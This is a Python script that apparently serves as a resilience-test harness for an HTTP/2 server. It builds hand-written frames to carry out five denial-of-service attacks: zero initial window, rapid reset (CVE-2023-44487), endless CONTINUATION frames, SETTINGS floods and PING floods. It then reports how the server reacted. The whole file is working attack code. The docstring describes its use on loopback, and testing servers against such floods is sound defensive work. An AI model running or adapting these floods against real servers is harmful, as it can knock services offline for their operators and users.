#!/usr/bin/python3
"""HTTP/2 attack clients that write frames by hand (hyperframe, hpack) over TLS on loopback.

  zero-window   SETTINGS_INITIAL_WINDOW_SIZE = 0, then --streams GETs: the server can send
                each answer's headers but none of its body. The client reads (and acks the
                server's SETTINGS) but never opens a window.
  rapid-reset   HEADERS and at once RST_STREAM(CANCEL), stream after stream, --count per
                connection (CVE-2023-44487).
  continuation  A HEADERS frame without END_HEADERS, then CONTINUATION frames full of header
                fields that never end (--count frames per connection at most).
  settings      SETTINGS frames as fast as the server takes them; each asks for an ACK.
  ping          PING frames as fast as the server takes them; each asks for a PING ACK.

In the two floods, even-numbered connections read what the server sends and odd ones never
read, so both a server that answers every frame and one whose answers back up are exercised.

Each holds --connections at once for at most --seconds (with --reconnect, a connection the
server closes is replaced), then prints one JSON line: frames sent, the server's frames by
kind, GOAWAY error codes, how many connections the server closed and after how long, and how
long the longest one it left open had been held.
"""

import asyncio
import collections
import socket
import struct
import time

import hpack
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

import common

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
KINDS = {0: "data", 1: "headers", 3: "rst_stream", 4: "settings", 6: "ping", 7: "goaway", 8: "window_update"}
CANCEL = 0x8
# Linux TCP states, as TCP_INFO's first byte gives them.
TCP_CLOSE, TCP_CLOSE_WAIT = 7, 8


def header_block(args):
    """A GET /healthz header block that leaves the HPACK table as it was (static entries and
    never-indexed literals), so the same bytes serve every stream."""
    fields = [(":method", "GET"), (":scheme", "https"), (":authority", args.sni, True), (":path", "/healthz", True)]
    return hpack.Encoder().encode(fields)


def settings_frame(n):
    """A SETTINGS frame that repeats one setting 100 times (allowed; the last one counts):
    600 bytes for the server to parse, 9 for it to send back."""
    payload = struct.pack(">HI", SettingsFrame.MAX_CONCURRENT_STREAMS, 100 + n % 2) * 100
    return struct.pack(">I", len(payload))[1:] + bytes([4, 0]) + struct.pack(">I", 0) + payload


def filler(size):
    """About `size` bytes of valid, never-indexed header fields, for CONTINUATION frames."""
    fields = [(f"x-flood-{n}", "a" * 100, True) for n in range(size // 120)]
    return hpack.Encoder().encode(fields)


class Stats:
    def __init__(self):
        self.sent = 0
        self.seen = collections.Counter()
        self.goaway = collections.Counter()
        self.opened = 0
        self.closed = 0
        self.close_after = []
        self.held = []

    def cut(self, since):
        self.closed += 1
        self.close_after.append(time.monotonic() - since)

    def kept(self, since):
        """The connection was still open when the attack ended."""
        self.held.append(time.monotonic() - since)


async def read_frames(reader, writer, stats):
    """Counts the server's frames until it closes the connection, and acks its SETTINGS, as
    any client must (the attacks are in what the client sends)."""
    buf = bytearray()
    try:
        while data := await reader.read(64 * 1024):
            buf += data
            while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
                length, kind, flags = int.from_bytes(buf[:3], "big"), buf[3], buf[4]
                payload = bytes(buf[9 : 9 + length])
                del buf[: 9 + length]
                stats.seen[KINDS.get(kind, str(kind))] += 1
                if kind == 7:
                    stats.goaway[struct.unpack(">I", payload[4:8])[0]] += 1
                if kind == 4 and not flags & 1 and not writer.is_closing():
                    writer.write(SettingsFrame(flags=["ACK"]).serialize())
    except OSError:
        pass


async def closed_unread(writer, within):
    """Whether the server closed a connection whose client reads nothing, watched through the
    socket's TCP state so that nothing is read: a reset (the server closed with bytes unread)
    or a FIN that got through."""
    sock = writer.get_extra_info("socket")
    if sock is None:
        return True  # the transport already saw the connection end
    try:
        async with asyncio.timeout(within):
            while sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] not in (TCP_CLOSE, TCP_CLOSE_WAIT):
                await asyncio.sleep(0.05)
        return True
    except TimeoutError:
        return False


async def send(writer, data, args, stats, frames):
    """Writes `frames` frames; False once the attack is over, or when the server stopped
    taking them (closed, or not reading) before its end."""
    if writer.is_closing() or common.left(args) == 0:
        return False
    try:
        writer.write(data)
        async with asyncio.timeout(common.left(args)):
            await writer.drain()
        stats.sent += frames
        return True
    except (OSError, TimeoutError):
        return False


async def attack(args, i, stats, ctx):
    reads = args.mode not in ("settings", "ping") or i % 2 == 0
    reader, writer = await common.connect(args, i, ctx, limit=64 * 1024 if reads else 4096)
    stats.opened += 1
    block = header_block(args)
    settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0} if args.mode == "zero-window" else {}
    writer.write(PREFACE + SettingsFrame(settings=settings).serialize())
    reading = asyncio.create_task(read_frames(reader, writer, stats)) if reads else None
    since = time.monotonic()
    if args.mode == "zero-window":
        for n in range(args.streams):
            writer.write(HeadersFrame(1 + 2 * n, block, flags=["END_STREAM", "END_HEADERS"]).serialize())
        stats.sent += args.streams
    elif args.mode == "rapid-reset":
        # Streams 1, 3, 5, ... in batches of 100, each opened and cancelled at once.
        for first in range(1, 2 * args.count, 200):
            ids = range(first, min(first + 200, 2 * args.count), 2)
            pairs = b"".join(
                HeadersFrame(s, block, flags=["END_STREAM", "END_HEADERS"]).serialize()
                + RstStreamFrame(s, error_code=CANCEL).serialize()
                for s in ids
            )
            if reading.done() or not await send(writer, pairs, args, stats, len(ids)):
                break
    elif args.mode == "continuation":
        fields = filler(16_000)
        writer.write(HeadersFrame(1, block, flags=["END_STREAM"]).serialize())
        frame = ContinuationFrame(1, fields).serialize()
        for _ in range(args.count):
            if reading.done() or not await send(writer, frame, args, stats, 1):
                break
    else:
        make = (lambda n: settings_frame(n)) if (
            args.mode == "settings"
        ) else (lambda n: PingFrame(0, opaque_data=struct.pack(">Q", n)).serialize())
        # Written a thousand at a time, so that the client outpaces a server that answers each.
        batch = b"".join(make(n) for n in range(1000))
        for _ in range(args.count // 1000):
            if (reading and reading.done()) or not await send(writer, batch, args, stats, 1000):
                break
    if reading:
        try:
            async with asyncio.timeout(common.left(args)):
                await reading
            stats.cut(since)
        except TimeoutError:
            stats.kept(since)
    elif await closed_unread(writer, common.left(args)):
        stats.cut(since)
    else:
        stats.kept(since)
    common.close(writer)


async def main():
    p = common.parser(__doc__)
    p.add_argument("mode", choices=["zero-window", "rapid-reset", "continuation", "settings", "ping"])
    p.add_argument("--streams", type=int, default=4, help="zero-window: requests per connection")
    p.add_argument("--count", type=int, default=10_000, help="frames per connection at most (rapid-reset: streams, each two frames)")
    args = common.parse(p)
    ctx = common.tls_context(args, ["h2"])
    stats = Stats()
    started = time.monotonic()

    await common.workers(args, attack, stats, ctx)
    common.emit(
        mode=args.mode,
        opened=stats.opened,
        sent=stats.sent,
        seen=dict(stats.seen),
        goaway={str(code): n for code, n in stats.goaway.items()},
        closed_by_server=stats.closed,
        close_after_p50=common.percentile(stats.close_after, 50),
        close_after_max=common.percentile(stats.close_after, 100),
        held_max=common.percentile(stats.held, 100),
        seconds=round(time.monotonic() - started, 3),
    )


if __name__ == "__main__":
    asyncio.run(main())
